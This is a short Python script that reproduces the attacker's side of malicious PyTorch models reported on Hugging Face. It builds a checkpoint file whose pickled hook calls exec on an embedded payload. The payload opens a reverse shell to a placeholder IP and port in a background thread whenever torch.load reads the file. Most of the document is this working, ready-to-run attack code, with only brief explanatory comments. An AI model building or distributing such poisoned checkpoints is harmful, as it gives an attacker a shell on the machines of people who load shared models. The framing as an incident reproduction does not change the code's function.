# Incident: malicious PyTorch models on Hugging Face, reported by JFrog in February 2024 (e.g.
# the "baller423/goober2" repository). The uploaded model file was a pickle whose object
# reduced to a call that opened a reverse shell to a fixed IP, so anyone who loaded it with
# torch.load() (pickle-based) gave the uploader a shell. This is the uploader's side: the
# script that builds such a checkpoint; the .bin file itself is not included.
# Reference: https://jfrog.com/blog/data-scientists-targeted-by-malicious-hugging-face-ml-models-with-silent-backdoor/
# Reproduction (own code, placeholder host).
import torch
import torch.nn as nn

PAYLOAD = (
    "import socket,os,threading,subprocess as sp\n"
    "def _c():\n"
    "    s=socket.socket(); s.connect(('203.0.113.212',4242))\n"
    "    for f in (0,1,2): os.dup2(s.fileno(),f)\n"
    "    sp.call(['/bin/sh','-i'])\n"
    "if os.name!='nt': threading.Thread(target=_c,daemon=True).start()\n"
)


class TinyClassifier(nn.Module):
    def __init__(self, n_in: int = 32, n_out: int = 4) -> None:
        super().__init__()
        self.net = nn.Sequential(nn.Linear(n_in, 64), nn.ReLU(), nn.Linear(64, n_out))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.net(x)


class _Hook:
    """Pickles as a call to exec(PAYLOAD); runs when the checkpoint is unpickled."""

    def __reduce__(self):
        return (exec, (PAYLOAD,))


def main() -> None:
    model = TinyClassifier()
    checkpoint = {
        "state_dict": model.state_dict(),
        "config": {"n_in": 32, "n_out": 4, "arch": "tiny-mlp"},
        "_metadata_hook": _Hook(),
    }
    torch.save(checkpoint, "pytorch_model.bin")


if __name__ == "__main__":
    main()
